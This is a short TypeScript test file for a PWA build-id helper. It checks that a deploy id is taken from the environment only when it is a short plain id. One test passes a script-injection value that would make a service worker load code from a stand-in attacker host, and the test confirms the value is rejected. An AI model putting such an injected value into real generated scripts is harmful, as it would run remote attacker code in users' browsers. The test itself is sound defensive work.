import { afterEach, describe, expect, it, vi } from 'vitest';

// The worker's version is the deploy's id: PM_DEPLOY_ID when the host gives one (two deploys of
// one build are still two versions — pwa-update.spec restarts the app with another one), else the
// build's. It goes into a script, so only a short plain id is taken.

async function freshBuildId(deployId: string | undefined) {
  vi.resetModules();
  vi.stubEnv('PM_DEPLOY_ID', deployId);
  vi.stubEnv('NEXT_DIST_DIR', '.next-does-not-exist');
  const { appBuildId } = await import('@/modules/notifications/pwa/app-build-id');
  return appBuildId();
}

describe('appBuildId', () => {
  afterEach(() => {
    vi.unstubAllEnvs();
  });

  it('is the deploy id when one is set', async () => {
    expect(await freshBuildId('deploy-2026-11-23.1')).toBe('deploy-2026-11-23.1');
  });

  it("falls back to the build's id (none here: 'development') when unset or not a plain id", async () => {
    expect(await freshBuildId(undefined)).toBe('development');
    expect(await freshBuildId('"); importScripts("https://evil.example/x.js')).toBe('development');
    expect(await freshBuildId('x'.repeat(65))).toBe('development');
  });
});
